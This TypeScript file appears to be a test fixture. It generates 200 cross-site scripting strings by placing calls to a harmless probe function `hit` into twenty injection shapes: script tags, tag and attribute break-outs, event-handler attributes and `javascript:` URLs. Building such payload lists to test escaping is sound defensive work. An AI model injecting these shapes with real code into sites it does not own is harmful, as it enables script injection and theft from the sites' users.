/*
 * Text that runs as a script where a page does not escape it. A page that is tested has a function `hit`.
 */
const CALLS = [
  'hit()',
  'top.hit()',
  "self['hit']()",
  'hit`1`',
  '(hit)()',
  'hit(1)//',
  'hit();',
  'window.hit()',
  'hit?.()',
  'void hit()',
]
const SHAPES: ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `</h2><script>${call}</script>`,
  (call) => `"><img src=x onerror="${call}">`,
  (call) => `'><img src=x onerror='${call}'>`,
  (call) => `<svg onload=${call}>`,
  (call) => `</title><script>${call}</script>`,
  (call) => `" autofocus onfocus="${call}`,
  (call) => `' autofocus onfocus='${call}`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
  (call) => `--><script>${call}</script><!--`,
  (call) => `</style><script>${call}</script>`,
  (call) => `<a href="javascript:${call}" id=x>x</a>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<math><mtext><script>${call}</script></mtext></math>`,
  (call) => `<body onload=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;<script>${call}</script>`,
  (call) => `<template><script>${call}</script></template><img src=x onerror=${call}>`,
  (call) => `<object data="javascript:${call}"></object><embed src="javascript:${call}">`,
]

/** 200 texts. */
export const PAYLOADS = SHAPES.flatMap((shape) => CALLS.map(shape))
